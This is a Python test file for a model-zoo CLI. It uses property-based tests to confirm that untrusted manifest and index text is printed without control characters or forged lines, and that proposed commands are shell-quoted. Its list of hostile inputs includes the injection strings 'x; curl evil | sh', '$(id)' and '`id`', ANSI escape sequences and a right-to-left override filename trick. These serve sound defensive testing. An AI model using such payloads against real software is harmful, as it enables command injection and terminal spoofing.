"""Text of strangers reaches the terminal without control characters, and forges no line."""

from __future__ import annotations

import json
import shlex
import shutil
import tempfile
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from mmgan_core.cli.main import app
from mmgan_core.cli.output import print_json, print_table
from mmgan_core.errors import IntegrityError
from mmgan_core.foundation.printable import Printable, on_one_line, printable
from mmgan_core.zoo import index
from mmgan_core.zoo.manifest import read_manifest

DIGITS = Path(__file__).parents[2] / "zoo" / "models" / "tiny-dense"
NASTY = [
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "two\nlines",
    "a\r\nb",
    "\x9b31m",
    "\u202egnp.exe",
    "\u2066x\u2069",
    "\ud800",
    "\U000e0041",
    "\0",
    "x; curl evil | sh",
    "$(id)",
    "`id`",
    "\u2028y",
    "\ufeff\u200b",
]
TEXTS = st.one_of(
    st.sampled_from(NASTY),
    st.text(st.characters(categories=None), max_size=30),
    st.lists(st.sampled_from(NASTY), max_size=3).map(" ".join),
)
SLOW = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def is_clean(text: str) -> bool:
    return not any(
        unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp") and c not in "\n\t\u200c\u200d"
        for c in text
    )


def said(*words: str) -> str:
    result = CliRunner().invoke(app, list(words))
    assert result.exception is None or isinstance(result.exception, (SystemExit, IntegrityError))
    return result.output


@contextmanager
def indexed(models: object) -> Iterator[None]:
    with tempfile.TemporaryDirectory() as folder, pytest.MonkeyPatch.context() as patch:
        file = Path(folder) / "index.yaml"
        file.write_text(json.dumps({"models": models}), encoding="utf-8")
        patch.setattr(index, "_indexes", lambda: iter([("mmgan-mine", file)]))
        yield


ROW = {"where": "shipped", "manifest": "0" * 64, "given": ["text"], "made": ["image"]}
ROW |= {"bytes": 1, "plugins": ["mmgan-image"]}


@SLOW
@given(summary=TEXTS, licence=TEXTS)
def test_one_row_for_each_model(summary: str, licence: str) -> None:
    row = {**ROW, "summary": summary, "licence": licence}
    with indexed({"one": row, "two": row}):
        output = said("ls", "models")
        assert is_clean(output)
        rows = [line.split()[0] for line in output.splitlines()[1:] if line.startswith("  one ")]
        assert rows == ["one"]
        assert len(output.splitlines()) <= 1 + 2 * len([*filter(None, output.splitlines())])
        listed = json.loads(said("ls", "models", "--json"))
        assert [one["name"] for one in listed] == ["one", "two"]
        assert listed[0]["summary"] == summary


@SLOW
@given(name=TEXTS)
def test_names_are_those_that_recipes_have(name: str) -> None:
    plain = bool(name) and name.isascii() and name.replace("_", "a").isalnum()
    for row in ({**ROW, "given": [name]}, {**ROW, "made": [name]}):
        with indexed({"one": row}):
            if plain:
                continue
            with pytest.raises(IntegrityError):
                index.entries()
    for key in ("given", "made"):
        raw = json.loads((DIGITS / "model.json").read_text(encoding="utf-8"))
        raw[key] = {name: next(iter(raw[key].values()))}
        with tempfile.TemporaryDirectory() as folder:
            (Path(folder) / "model.json").write_text(json.dumps(raw), encoding="utf-8")
            if not plain:
                with pytest.raises(IntegrityError) as refusal:
                    read_manifest(Path(folder))
                assert is_clean(printable(str(refusal.value)))


@SLOW
@given(text=TEXTS)
def test_a_whole_model_of_a_stranger_is_told_cleanly(text: str, tmp_path: Path) -> None:
    model = tmp_path / "model"
    shutil.rmtree(model, ignore_errors=True)
    shutil.copytree(DIGITS, model)
    raw = json.loads((model / "model.json").read_text(encoding="utf-8"))
    raw |= {"summary": text, "limits": [text], "licences": {"weights": text, "data": text}}
    raw["cost"]["device"] = text
    (model / "model.json").write_text(json.dumps(raw), encoding="utf-8")
    assert is_clean(said("verify", f"dir:{model}"))
    assert is_clean(said("ls", "models", "--made", text))


@given(text=TEXTS)
def test_every_stream_is_clean(text: str) -> None:
    import io

    inner = io.StringIO()
    Printable(inner).write(f"said: {text}")  # type: ignore[arg-type]
    assert is_clean(inner.getvalue())
    assert is_clean(printable(text))
    assert not set("\n\r\t") & set(on_one_line(text))


@given(text=TEXTS)
def test_what_is_printed_as_json_is_read_back(text: str) -> None:
    import io

    inner = io.StringIO()
    Printable(inner).write(json.dumps({"x": text}, ensure_ascii=False))  # type: ignore[arg-type]
    assert json.loads(inner.getvalue()) == {"x": text}


def test_styles_of_our_own_stay(capsys: pytest.CaptureFixture[str]) -> None:
    import io

    inner = io.StringIO()
    Printable(inner).write("\x1b[1mbold\x1b[0m")  # type: ignore[arg-type]
    assert inner.getvalue() == "\x1b[1mbold\x1b[0m"
    print_table("", [("a\nb", "c")])
    print_json({"a": "é"})
    assert capsys.readouterr().out.startswith("  a b  c\n")


def test_a_proposed_command_is_quoted() -> None:
    from mmgan_core.cli.pull_verb import use_of

    nasty = "dir:x; curl evil | sh"
    assert shlex.split(use_of(nasty, ["text"]))[2] == nasty


def test_no_plugin_takes_the_name_of_a_shipped_model(monkeypatch: pytest.MonkeyPatch) -> None:
    before = list(index._indexes())
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "index.yaml"
        file.write_text(json.dumps({"models": {"digits": ROW, "mine": ROW}}), encoding="utf-8")
        monkeypatch.setattr(index, "_indexes", lambda: iter([*before, ("mmgan-mine", file)]))
        assert index.find("digits").owner == "mmgan-zoo"
        assert index.find("mine").owner == "mmgan-mine"
